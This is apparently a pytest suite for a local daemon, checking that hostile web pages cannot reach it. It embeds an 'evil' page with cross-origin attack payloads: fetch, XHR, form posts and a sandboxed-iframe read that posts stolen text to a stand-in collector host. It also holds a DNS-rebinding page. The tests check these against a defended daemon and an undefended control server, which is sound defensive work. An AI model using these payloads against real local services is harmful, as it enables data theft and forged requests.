"""Pages in a real browser on this host: whatever they try, nothing gets through, and they read nothing.

Every attack is tried twice: at the daemon, and, to see that it is one, at a server without any defence."""
import pytest

from harness.browser import Browser
from harness.daemon import Reservation
from harness.expect import passed
from harness.pages import Pages
from harness.upstream import OK
from harness.waiting import until

# What a page can do without asking, by name; each asks for /widget/NAME, the last one for /ws.
ATTACKS = {
    "fetch": "() => fetch(at).then(r => r.text())",
    "fetch-credentials": "() => fetch(at, {credentials: 'include'}).then(r => r.text())",
    "fetch-no-cors": "() => fetch(at, {mode: 'no-cors'}).then(r => r.text())",
    "fetch-post": "() => fetch(at, {method: 'POST', body: '{}'}).then(r => r.text())",
    "fetch-post-no-cors": "() => fetch(at, {method: 'POST', mode: 'no-cors', body: '{}'}).then(r => r.text())",
    "fetch-preflight": "() => fetch(at, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}})"
                       ".then(r => r.text())",
    "xhr": "() => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', at); "
           "x.onload = () => yes(x.responseText); x.onerror = () => no('error'); x.send(); })",
    "beacon": "() => { navigator.sendBeacon(at, '{}'); return wait(500).then(() => ''); }",
    "img": "() => element('img', {src: at}).then(e => e.naturalWidth ? 'a picture' : '')",
    "script": "() => element('script', {src: at}).then(() => 'it ran')",
    "style": "() => element('link', {rel: 'stylesheet', href: at}).then(() => 'a style sheet')",
    "iframe": "() => element('iframe', {src: at}).then(inside)",
    "event-source": "() => new Promise((yes, no) => { const s = new EventSource(at); s.onopen = () => yes('opened'); "
                    "s.onerror = () => no('error'); })",
    "form-urlencoded": "() => form('application/x-www-form-urlencoded')",
    "form-multipart": "() => form('multipart/form-data')",
    "form-text-plain": "() => form('text/plain')",
    "form-get": "() => form(null)",
    "opaque-origin": "() => element('iframe', {sandbox: 'allow-scripts', srcdoc: `<script>fetch('${at}')"
                     ".then(r => r.text()).then(t => fetch('${told}', {method: 'POST', "
                     "body: JSON.stringify({'opaque-origin-read': t})}))</` + 'script>'}).then(() => wait(500))"
                     ".then(() => '')",
    "websocket": "() => new Promise((yes, no) => { const s = new WebSocket(at); s.onopen = () => yes('it opened'); "
                 "s.onerror = () => no('error'); })",
}

PAGE = """<!DOCTYPE html><title>evil</title><body><script>
const told = "TOLD", wait = ms => new Promise(r => setTimeout(r, ms));
let at;
function element(tag, fields) {
  return new Promise((yes, no) => {
    const e = Object.assign(document.createElement(tag), fields);
    if (fields.sandbox) e.setAttribute("sandbox", fields.sandbox);
    e.onload = () => yes(e);
    e.onerror = () => no("error");
    document.body.append(e);
  });
}
function inside(frame) { return frame.contentDocument ? frame.contentDocument.body.innerText : ""; }
function form(kind) {
  return new Promise(yes => {
    const [frame, f, i] = ["iframe", "form", "input"].map(tag => document.createElement(tag));
    frame.name = "frame" + Math.random();
    Object.assign(i, {name: "amount", value: "1"});
    Object.assign(f, {action: at, method: kind ? "POST" : "GET", target: frame.name});
    if (kind) f.enctype = kind;
    f.append(i);
    document.body.append(frame, f);
    frame.onload = () => yes(inside(frame));
    f.submit();
  });
}
const attacks = {ATTACKS};
(async () => {
  const found = {};
  for (const name in attacks) {
    at = name == "websocket" ? "ws://TARGET/ws" : "http://TARGET/widget/" + name;
    const late = wait(8000).then(() => { throw "late"; });
    await Promise.race([attacks[name](), late])
      .then(r => found[name] = "read: " + r, e => found[name] = "failed: " + e);
  }
  fetch(told, {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

RESOLVE = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP tell.example 127.0.0.1"


def page(target, told):
    attacks = ", ".join(f'"{name}": {code}' for name, code in ATTACKS.items())
    return PAGE.replace("ATTACKS", attacks).replace("TARGET", target).replace("TOLD", told)


@pytest.fixture
def pages():
    started = []

    def start(content, port=0):
        started.append(Pages(content, port))
        return started[-1]

    yield start
    for server in started:
        server.close()


def attack(pages, tmp_path, target):
    """What the page made of each attack on host:port, and the server it came from."""
    evil = pages({})
    told = f"http://tell.example:{evil.port}/told"
    evil.pages["/"] = page(target, told)
    with Browser(tmp_path).opened(f"http://evil.example:{evil.port}/", RESOLVE):
        found = evil.wait_told(ATTACKS)
    return found, evil


def names_of(paths):
    return {"websocket" if p == "/ws" else p.split("/")[2] for p in paths if p == "/ws" or p.startswith("/widget/")}


def test_pages_of_other_origins_get_nothing_through(daemon, raw_upstream, pages, tmp_path):
    upstream = raw_upstream(automatic=OK)
    running = daemon(upstream, allowed_origins=["https://shop.example"])
    passed(running.get("/widget/direct"))  # other programs on this host do get through
    found, _ = attack(pages, tmp_path, f"127.0.0.1:{running.port}")
    assert [r.line for r in upstream.taken()] == [b"GET /widget/direct HTTP/1.1"]
    for name, result in found.items():  # what a page may see is that there was an answer, and no byte of it
        assert result in ("read: ", "failed: error", "failed: late") or result.startswith("failed: TypeError"), \
            f"{name}: {result}"
    until(lambda: len(refusals(running)) >= len(ATTACKS), "all refusals to be logged")
    assert names_of(refusals(running)) == set(ATTACKS)  # every one of them came, and was refused


def refusals(running):
    return {r["path"]: r["status"] for r in running.records()
            if r.get("component") == "access" and r["status"] == 403 and r.get("reason") == "origin"}


def test_the_same_pages_do_reach_a_server_without_defences(raw_upstream, pages, tmp_path):
    open_door = b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 6\r\n\r\nsecret"
    upstream = raw_upstream(tls=False, automatic=open_door)
    found, _ = attack(pages, tmp_path, f"127.0.0.1:{upstream.port}")
    assert names_of(r.target.decode().partition("?")[0] for r in upstream.taken()) == set(ATTACKS)
    assert found["fetch"] == found["xhr"] == "read: secret" == found["fetch-post"]
    assert found["opaque-origin-read"] == "secret"


REBOUND = """<!DOCTYPE html><title>evil</title><script>
const told = "TOLD", wait = ms => new Promise(r => setTimeout(r, ms));
const tell = what => fetch(told, {method: "POST", body: JSON.stringify(what)});
const read = (path, how) => fetch(path, how).then(async r => r.status + " " + await r.text(), e => "failed");
(async () => {
  await tell({loaded: "yes"});
  let first;
  do {
    await wait(100);
    first = await read("/widget/rebound");
  } while (first == "failed" || first.startsWith("404 "));
  const post = await read("/widget/rebound-post", {method: "POST", body: "{}"});
  const socket = await new Promise(yes => {
    const s = new WebSocket("ws://" + location.host + "/ws");
    s.onopen = () => yes("opened");
    s.onerror = () => yes("failed");
  });
  await tell({first, post, socket});
})();
</script>"""


def rebind(daemon, upstream, pages, tmp_path, **keys):
    """A page comes from evil.example:PORT; then the daemon is what answers there, as after a change of the DNS."""
    place = Reservation()
    port = place.port
    place.close()
    collector = pages({})
    evil = Pages({"/": REBOUND.replace("TOLD", f"http://tell.example:{collector.port}/told")}, port)
    with Browser(tmp_path).opened(f"http://evil.example:{port}/", RESOLVE):
        collector.wait_told(["loaded"])
        evil.close()
        running = daemon(upstream, listen=[f"127.0.0.1:{port}"], **keys)
        return running, collector.wait_told(["first", "post", "socket"])


def test_dns_rebinding_gets_nothing_through(daemon, raw_upstream, pages, tmp_path):
    """To the browser it is all one origin, so that only the Host gives it away."""
    upstream = raw_upstream(automatic=OK)
    running, found = rebind(daemon, upstream, pages, tmp_path)
    assert found["first"].startswith("421 ") and "proxy_host_not_allowed" in found["first"]
    assert found["post"].startswith("421 ") and found["socket"] == "failed"
    assert upstream.none_came()
    passed(running.get("/widget/direct"))


def test_the_same_page_does_reach_a_daemon_that_takes_any_host(daemon, raw_upstream, pages, tmp_path):
    upstream = raw_upstream(automatic=OK)
    _, found = rebind(daemon, upstream, pages, tmp_path, allowed_hosts=["evil.example"])
    assert found["first"] == "200 {}"
    assert [r.line for r in upstream.taken()][:1] == [b"GET /widget/rebound HTTP/1.1"]
    assert found["post"].startswith("403 ")  # with an Origin, which is not listed
